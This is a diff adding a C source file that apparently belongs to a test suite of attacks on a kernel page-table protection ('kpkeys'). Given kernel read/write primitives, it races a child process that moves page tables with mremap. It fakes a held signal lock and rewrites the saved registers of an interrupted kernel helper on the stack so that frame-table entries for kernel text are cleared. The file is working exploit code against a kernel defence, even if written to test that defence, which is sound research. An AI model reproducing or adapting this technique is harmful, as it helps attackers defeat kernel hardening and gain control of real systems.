@@ -1,0 +1,224 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attack on a helper that is interrupted when it has asked about an entry, and before
+ * the section that writes it asks again. A process moves tables for ever. Its timer's
+ * handler waits for a lock that is made to look held: that of the process's signals.
+ * Meanwhile the helper's registers are changed, which lie on the stack. Where an entry
+ * may be that leads to a table is asked by its level: the level is made one less than
+ * none, the place one in the table of frames, and what is written no entry.
+ */
+#include <signal.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/time.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#ifdef __x86_64__
+#define HELPER		"exchange"
+#define HELPER_BEGIN	0x80		/* bytes, up to where its section asks */
+#define HELPER_CPU	1
+#define INTERVAL	1000		/* microseconds */
+#define HOLD		5		/* milliseconds */
+#define SECONDS		40
+#define ENOUGH		8		/* frames that were changed */
+#define STACK_PART	(4 << 10)	/* of the stack, with what the helper uses */
+#define MOVED_PART	0x5f
+#define MOVED_TABLES	16
+#define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
+#define FRAMES_PER_PAGE	4096		/* of the table of frames */
+#define NO_LEVEL	0xffffffffUL
+
+/* struct pt_regs, in words */
+#define FRAME_WORDS	21
+#define FRAME_GENERAL	13		/* those that may have the level */
+#define FRAME_SI	13
+#define FRAME_DI	14
+#define FRAME_IP	16
+#define FRAME_CS	17
+#define FRAME_SS	20
+#define KERNEL_CS	0x10
+#define KERNEL_SS	0x18
+
+struct target {
+	pid_t pid;
+	struct task task;
+	uint64_t lock, helper, state;
+	uint64_t place;			/* what is to be cleared */
+	int changed;
+};
+
+static struct {
+	volatile bool ready, go;
+	volatile unsigned long rounds;
+} *shared;
+
+static void on_alarm(int signal)
+{
+	(void)signal;
+}
+
+static void start_timer(void)
+{
+	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
+
+	shared->ready = true;
+	while (!shared->go)
+		usleep(1000);
+	setitimer(ITIMER_REAL, &interval, NULL);
+}
+
+/* Whole tables: each is unlinked and linked by the helper. */
+static void move_for_ever(void)
+{
+	size_t size = MOVED_TABLES * PMD_SIZE, i;
+	char *place[] = { (void *)user_room(MOVED_PART), NULL };
+	volatile char *page = sparse_region(user_room(MOVED_PART), MOVED_TABLES,
+					    PROT_READ | PROT_WRITE);
+	int from = 0;
+
+	place[1] = place[0] + 2 * size;
+	for (i = 0; page && i < MOVED_TABLES; i++)
+		page[i * PMD_SIZE] = 1;
+	start_timer();
+	for (; page; from = !from, shared->rounds++)
+		if (mremap(place[from], size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
+			   place[!from]) != place[!from])
+			break;
+}
+
+static pid_t start_child(void)
+{
+	pid_t pid;
+
+	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	pid = fork();
+	if (pid)
+		return pid;
+	stay_on_cpu(HELPER_CPU);
+	signal(SIGALRM, on_alarm);
+	move_for_ever();
+	_exit(1);
+}
+
+/* Eight frames at once: around text is text. */
+static uint64_t frames_of_text(void)
+{
+	uint64_t pages = kread64(ksymbol("kpkeys_frames")), pfn = text_phys() / PAGE_SIZE;
+
+	return (kread64(pages + pfn / FRAMES_PER_PAGE * sizeof(uint64_t)) +
+		pfn % FRAMES_PER_PAGE) & -8UL;
+}
+
+static bool find_target(struct target *target)
+{
+	target->helper = ksymbol(HELPER);
+	target->state = ksymbol_cpu("kpkeys_cpu", HELPER_CPU);
+	target->place = frames_of_text();
+	if (!target->helper || !target->state || ktask(target->pid, &target->task))
+		return false;
+	target->lock = find_signal_lock(&target->task, on_alarm);
+	return target->lock;
+}
+
+/* In a section the registers would be put back. */
+static bool is_helper(const struct target *target, const uint64_t *frame)
+{
+	uint8_t nr = 1;
+
+	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS &&
+	       frame[FRAME_IP] - target->helper < HELPER_BEGIN &&
+	       !kread(target->state + NR_SAVED, &nr, sizeof(nr)) && !nr;
+}
+
+static void change_frame(struct target *target, uint64_t at, const uint64_t *frame)
+{
+	int i;
+
+	for (i = 0; i < FRAME_GENERAL; i++)
+		if (frame[i] == LEVEL_PTE)
+			kwrite64(at + i * sizeof(*frame), NO_LEVEL);
+	kwrite64(at + FRAME_DI * sizeof(*frame), target->place);
+	kwrite64(at + FRAME_SI * sizeof(*frame), 0);
+	target->changed++;
+}
+
+static void change_stack(struct target *target)
+{
+	static uint64_t words[STACK_PART / sizeof(uint64_t)];
+	uint64_t part = target->task.stack + target->task.stack_size - sizeof(words);
+	size_t i;
+
+	kread(part, words, sizeof(words));
+	for (i = 0; i + FRAME_WORDS <= STACK_PART / sizeof(*words); i++)
+		if (is_helper(target, words + i))
+			change_frame(target, part + i * sizeof(*words), words + i);
+}
+
+static void set_lock(const struct target *target, char locked)
+{
+	kwrite(target->lock, &locked, sizeof(locked));
+}
+
+static void attack_once(struct target *target)
+{
+	set_lock(target, 1);
+	usleep(HOLD * 1000);
+	change_stack(target);
+	set_lock(target, 0);
+	usleep(HOLD * 1000);
+}
+
+static time_t now(void)
+{
+	struct timespec time;
+
+	clock_gettime(CLOCK_MONOTONIC, &time);
+	return time.tv_sec;
+}
+
+/* Who has it refused is killed. */
+static bool clear_frames(struct target *target)
+{
+	time_t end = now() + SECONDS;
+
+	shared->go = true;
+	while (kread64(target->place) && target->changed < ENOUGH && now() < end &&
+	       !waitpid(target->pid, NULL, WNOHANG))
+		attack_once(target);
+	kill(target->pid, SIGKILL);
+	return !kread64(target->place);
+}
+
+enum outcome interrupted_level(void)
+{
+	struct target target = { 0 };
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	if (!is_protected())
+		return vdso_text();
+	stay_on_cpu(0);
+	target.pid = start_child();
+	while (!shared->ready)
+		usleep(1000);
+	if (!find_target(&target))
+		return broken("no stack, no lock or no helper");
+	if (clear_frames(&target))
+		return vdso_text();
+	if (!target.changed)
+		return broken("the helper was not interrupted (%lu rounds)", shared->rounds);
+	return lost("%d frames were changed in %lu rounds, and text is what it was",
+		    target.changed, shared->rounds);
+}
+#else
+enum outcome interrupted_level(void)
+{
+	return skipped("knows the registers of x86-64");
+}
+#endif
